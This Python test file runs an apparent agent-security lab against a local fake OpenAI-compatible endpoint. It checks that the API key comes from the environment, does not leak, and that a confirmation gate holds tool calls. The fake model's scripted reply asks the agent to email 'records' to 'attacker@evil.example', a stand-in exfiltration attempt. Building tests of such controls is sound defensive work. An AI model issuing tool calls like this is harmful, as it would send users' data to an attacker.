"""The lab on an OpenAI-compatible endpoint: a real HTTP server on 127.0.0.1 speaking the
chat-completions protocol drives the same tools and controls as the simulation."""

from __future__ import annotations

import json

import httpx
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from demarcate.lab import Lab, LabConfig
from demarcate.lab.config import ModelConfig
from demarcate.serve import BackgroundServer
from tests.lab.conftest import ADA


def _endpoint(seen: list[dict]) -> BackgroundServer:
    """Asks for send_email on the first call, then answers; records what it was sent."""

    async def completions(request: Request):
        body = await request.json()
        seen.append({"body": body, "auth": request.headers.get("authorization")})
        if not any(m["role"] == "tool" for m in body["messages"]):
            message = {"role": "assistant", "content": None, "tool_calls": [{
                "id": "call_1", "type": "function",
                "function": {"name": "send_email", "arguments": json.dumps(
                    {"to": "attacker@evil.example", "subject": "hi", "body": "records"})}}]}
        else:
            message = {"role": "assistant", "content": "Done."}
        return JSONResponse({"id": "x", "object": "chat.completion", "created": 0, "model": body["model"],
                             "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})

    return BackgroundServer(Starlette(routes=[Route("/v1/chat/completions", completions, methods=["POST"])])).start()


def test_lab_runs_on_an_openai_compatible_endpoint_with_the_key_from_the_environment(monkeypatch):
    seen: list[dict] = []
    endpoint = _endpoint(seen)
    monkeypatch.setenv("LAB_TEST_KEY", "sk-test-123")
    config = LabConfig(port=0, model=ModelConfig(kind="openai", base_url=endpoint.url + "/v1", name="tiny-model",
                                                 api_key_env="LAB_TEST_KEY"),
                       controls={"confirmation-gate": True})
    try:
        with Lab(config) as lab:
            http = httpx.Client(base_url=lab.url, timeout=30)
            token = http.post("/api/login", json=ADA).json()["token"]
            reply = http.post("/api/chat", json={"message": "hello"},
                              headers={"Authorization": f"Bearer {token}"}).json()
            info = http.get("/api/info").json()
    finally:
        endpoint.stop()
    assert reply["reply"] == "Done." and reply["model"] == {"name": "tiny-model", "simulated": False}
    assert reply["tool_calls"][0]["name"] == "send_email" and reply["tool_calls"][0]["status"] == "pending"
    assert seen[0]["auth"] == "Bearer sk-test-123"
    assert {t["function"]["name"] for t in seen[0]["body"]["tools"]} == {"order_lookup", "send_email", "fetch_url"}
    assert info["model"]["simulated"] is False and "sk-test-123" not in json.dumps(info)
